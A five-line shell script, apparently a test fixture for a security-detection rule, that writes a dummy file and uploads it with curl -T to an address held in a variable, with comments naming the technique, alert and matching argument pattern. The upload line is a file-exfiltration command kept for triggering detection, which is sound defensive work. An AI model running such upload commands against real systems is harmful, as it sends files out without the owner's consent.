# SPDX-License-Identifier: Apache-2.0
# technique: curl sends a file
# alert: File uploaded by a tool
# field: proc.args=*-T x*
echo x > x; curl -s -m 1 -T x "$ADDRESS:4497" || true
